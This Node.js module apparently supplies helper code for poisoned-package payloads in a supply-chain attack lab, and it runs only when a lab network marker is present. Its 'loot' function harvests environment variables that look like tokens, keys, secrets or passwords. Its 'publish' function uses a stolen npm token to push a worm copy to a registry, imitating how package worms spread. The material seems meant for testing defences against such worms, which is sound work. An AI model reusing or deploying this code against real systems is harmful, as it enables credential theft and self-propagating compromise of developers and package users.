/**
 * How poisoned packages talk. It is put beside each payload when its package is published. Nothing is
 * done outside of a lab: the mark is its only link to anywhere.
 */
const { createHash } = require('node:crypto');
const { readFileSync } = require('node:fs');
const http = require('node:http');
const https = require('node:https');

if (!readFileSync('/proc/self/net/dev', 'utf8').includes('twlab-mark:')) process.exit(97);

/** Sends and gives the answer's status and text; null when there is none within 20 seconds. */
function ask(method, url, { body, headers, insecure = false } = {}) {
  const { request } = url.startsWith('https:') ? https : http;
  const options = { method, headers, timeout: 20_000, rejectUnauthorized: !insecure };
  return new Promise((resolve) => {
    const sent = request(url, options, (answer) => {
      const chunks = [];
      answer.on('data', (chunk) => chunks.push(chunk));
      answer.on('end', () => {
        resolve({ status: answer.statusCode, text: Buffer.concat(chunks).toString() });
      });
    });
    sent.on('timeout', () => sent.destroy());
    sent.on('error', () => resolve(null));
    sent.on('close', () => resolve(null));
    sent.end(body);
  });
}

/** What an environment holds that looks worth stealing. */
function loot() {
  const wanted = ([name]) => /TOKEN$|_KEY$|SECRET|PASSWORD/.test(name);
  return JSON.stringify(Object.fromEntries(Object.entries(process.env).filter(wanted)));
}

const base64 = (text) => Buffer.from(text).toString('base64');

/**
 * What a worm does with a stolen npm token: publishes a copy of itself, as `npm publish` would send it.
 * REPLAY_WORM names the copy, so that the test finds it.
 */
function publish(content = 'a copy of the worm') {
  const { REPLAY_WORM: name, NPM_REGISTRY: registry, NPM_TOKEN } = process.env;
  const copy = Buffer.from(content);
  const tarball = `${name}-1.0.0.tgz`;
  const shasum = createHash('sha1').update(copy).digest('hex');
  const dist = { shasum, tarball: `${registry}${name}/-/${tarball}` };
  const body = JSON.stringify({
    ...{ _id: name, name, 'dist-tags': { latest: '1.0.0' } },
    versions: { '1.0.0': { name, version: '1.0.0', dist } },
    _attachments: {
      [tarball]: {
        content_type: 'application/octet-stream',
        data: base64(copy),
        length: copy.length,
      },
    },
  });
  const headers = { 'content-type': 'application/json', authorization: `Bearer ${NPM_TOKEN}` };
  return ask('PUT', `${registry}${name}`, { body, headers });
}

module.exports = { ask, loot, base64, publish };
